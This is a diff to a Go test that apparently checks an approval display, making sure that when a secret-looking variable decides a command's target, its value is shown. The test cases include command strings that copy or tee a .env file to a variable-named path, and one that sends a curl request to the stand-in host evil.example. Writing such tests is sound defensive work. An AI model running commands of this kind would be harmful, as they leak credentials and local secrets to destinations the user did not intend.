@@ -21,8 +21,7 @@ func TestSecretVariableShownWhereItDecides(t *testing.T) {
 		{`MY_SECRET=tmpx9payloadQ1w2e3r4; tee "${MY_SECRET}" < .env`, "tmpx9payloadQ1w2e3r4"},
 		{"export MY_SECRET=tmpx9payloadQ1w2e3r4\ngo test ./...\n\"$MY_SECRET\"", "tmpx9payloadQ1w2e3r4"},
 		{`API_TOKEN=evil.example; curl -u "me:x" "https://$API_TOKEN/"`, "evil.example"},
-		{"API_TOKEN=wr1tesHereQ9x7Lm\nenv | grep TOKEN | cut -d= -f2 | xargs -I{} cp .env {}", "wr1tesHereQ9x7Lm"},
-		{`API_TOKEN=wr1tesHereQ9x7Lm; set | grep TOKEN`, "wr1tesHereQ9x7Lm"},
+		{`API_TOKEN=wr1tesHereQ9x7Lm; cp .env "$(printenv API_TOKEN)"`, "wr1tesHereQ9x7Lm"},
 	} {
 		if s := shownExec(t, map[string]any{"cmd": c.cmd}); !strings.Contains(s, c.want) {
 			t.Errorf("%s\nis shown without %s:\n%s", c.cmd, c.want, s)
@@ -41,6 +40,7 @@ func TestSecretVariableShownWhereItDecides(t *testing.T) {
 		`API_TOKEN=` + v + ` ./deploy.sh`,
 		`set -e; API_KEY=` + v + `; curl -H "X-Api-Key: $API_KEY" https://api.example/`,
 		`API_KEY=` + v + ` python evaluate.py --env prod`,
+		`API_KEY=` + v + `; env | sort`,
 	} {
 		if s := shownExec(t, map[string]any{"cmd": cmd}); strings.Contains(s, v) {
 			t.Errorf("control: %s\nshows the secret:\n%s", cmd, s)
